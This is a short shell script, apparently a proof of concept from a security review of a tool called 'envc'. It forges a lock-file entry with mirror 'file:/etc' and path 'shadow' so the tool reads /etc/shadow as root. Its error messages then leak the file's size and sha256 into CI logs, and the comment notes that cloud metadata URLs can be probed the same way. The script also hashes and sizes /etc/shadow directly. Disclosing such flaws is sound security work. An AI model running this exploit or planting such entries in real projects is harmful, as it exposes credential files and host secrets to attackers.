#!/bin/sh
# LOW/MEDIUM. A lock entry's mirror and path are URLs envc reads as root on the host; the error
# prints the size (Content-Length or file size) and the sha256 of what it read. A PR's lock thus
# learns the size and sha256 of /etc/shadow (or of a cloud metadata URL) from the CI log.
set -eu
: "${ENVC:?}" "${ENVC_STORE:?}" "${RED:?}"
mkdir -p "$RED/leak" && cd "$RED/leak"
sed 's/"reda"/"redleak"/' ../a/env.kdl > env.kdl
python3 - <<'EOT'
import re
t = open('../a/env.lock').read()
i = t.index('[[step]]')
line = re.search(r'  \{ name = "hello".*\n', t[i:]).group(0)
leak = '  { name = "leak", version = "1", arch = "all", size = 1, sha256 = "' + '00' * 32 + '", path = "shadow", mirror = "file:/etc" },\n'
open('env.lock', 'w').write(t[:i] + t[i:].replace(line, line + leak, 1))
EOT
"$ENVC" fetch env.kdl 2>&1 | grep 'file:/etc' || true
sed -i "s/size = 1, sha256 = \"0000/size = $(stat -c %s /etc/shadow), sha256 = \"0000/" env.lock
"$ENVC" fetch env.kdl 2>&1 | grep 'file:/etc' || true
sha256sum /etc/shadow
